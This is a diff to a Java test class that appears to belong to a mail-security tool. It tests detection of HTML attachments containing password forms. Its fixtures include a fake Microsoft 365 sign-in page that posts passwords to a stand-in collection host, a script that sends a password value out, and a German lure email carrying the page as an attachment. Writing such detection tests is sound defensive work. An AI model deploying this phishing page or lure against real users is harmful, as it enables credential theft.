@@ -44,4 +44,34 @@ class HtmlSmugglingTest {
         MailMessage m = MimeParser.parse(raw.getBytes(StandardCharsets.UTF_8), "k", "INBOX");
         assertThat(m.attachments()).singleElement().satisfies(a -> assertThat(a.smuggledFile()).hasValue("Invoice.iso"));
     }
+
+    static final String SIGN_IN = "<html><head><title>Sign in to your account</title></head><body>"
+            + "<form method=\"post\" action=\"https://m365-secure-login.example-host.net/collect.php\">"
+            + "<input type=\"email\" name=\"login\" value=\"k.brandt@hessler.example\">"
+            + "<input name=\"passwd\" type=\"password\" placeholder=\"Password\"><button>Sign in</button></form>"
+            + "</body></html>";
+
+    @Test
+    void aPageWithAPasswordFieldIsASignInFormAndSaysWhereItSendsThePassword() {
+        assertThat(HtmlSmuggling.passwordFormTarget(SIGN_IN.getBytes(StandardCharsets.UTF_8)))
+                .hasValue("m365-secure-login.example-host.net");
+        String scripted = "<form id=f><input type='password' id=p></form><script>send(p.value)</script>";
+        assertThat(HtmlSmuggling.passwordFormTarget(scripted.getBytes(StandardCharsets.UTF_8))).hasValue("");
+        String order = "<form action=\"https://shop.example/order\"><input type=\"text\" name=\"qty\"></form>";
+        assertThat(HtmlSmuggling.passwordFormTarget(order.getBytes(StandardCharsets.UTF_8))).isEmpty();
+    }
+
+    @Test
+    void theParserMarksASignInPage() {
+        String raw = "From: Sandra <sandra@partner.example>\r\nTo: me@example.com\r\nSubject: AW: Lieferplan\r\n"
+                + "Message-ID: <form@partner.example>\r\nMIME-Version: 1.0\r\n"
+                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
+                + "Anbei der Lieferplan.\r\n--b\r\nContent-Type: text/html; name=Lieferplan.html\r\n"
+                + "Content-Disposition: attachment; filename=Lieferplan.html\r\n\r\n" + SIGN_IN + "\r\n--b--\r\n";
+        MailMessage m = MimeParser.parse(raw.getBytes(StandardCharsets.UTF_8), "k", "INBOX");
+        assertThat(m.attachments()).singleElement().satisfies(a -> {
+            assertThat(a.passwordFormTarget()).hasValue("m365-secure-login.example-host.net");
+            assertThat(a.smuggledFile()).isEmpty();
+        });
+    }
 }
